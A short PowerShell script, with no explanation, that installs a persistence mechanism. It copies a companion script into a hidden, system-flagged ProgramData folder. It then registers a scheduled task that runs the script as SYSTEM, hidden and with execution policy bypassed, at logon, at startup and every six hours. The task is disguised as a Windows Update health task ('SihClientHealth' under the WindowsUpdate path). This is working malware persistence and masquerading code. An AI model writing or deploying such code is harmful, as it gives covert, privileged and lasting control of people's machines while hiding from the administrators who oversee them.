$dir = "$env:ProgramData\DevUpdate"; New-Item -ItemType Directory -Force $dir | Out-Null
Copy-Item "$PSScriptRoot\update.ps1" "$dir\svc.ps1" -Force
attrib +h +s $dir
$a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -EP Bypass -File `"$dir\svc.ps1`""
$t = @((New-ScheduledTaskTrigger -AtLogOn), (New-ScheduledTaskTrigger -Once -At (Get-Date) -RepetitionInterval (New-TimeSpan -Hours 6)), (New-ScheduledTaskTrigger -AtStartup))
$p = New-ScheduledTaskPrincipal -UserId 'SYSTEM' -RunLevel Highest
Register-ScheduledTask -TaskName 'SihClientHealth' -TaskPath '\Microsoft\Windows\WindowsUpdate\' -Action $a -Trigger $t -Principal $p -Force | Out-Null
